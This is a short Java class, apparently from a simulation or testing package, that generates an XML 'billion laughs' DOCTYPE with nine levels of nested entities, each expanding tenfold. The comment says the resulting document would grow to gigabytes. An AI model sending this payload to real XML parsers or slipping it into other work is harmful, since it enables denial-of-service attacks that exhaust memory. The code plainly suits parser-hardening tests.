package io.dragoman.sim.carrier;

/** A document type that would grow to gigabytes. */
final class Bomb {
  private static final int LEVELS = 9;

  private Bomb() {}

  static String doctype(String root) {
    StringBuilder text = new StringBuilder("<!DOCTYPE " + root + " [<!ENTITY e0 \"boom\">");
    for (int level = 1; level <= LEVELS; level++) {
      text.append("<!ENTITY e" + level + " \"").append(("&e" + (level - 1) + ";").repeat(10));
      text.append("\">");
    }
    return text.append("]>\n").toString();
  }
}
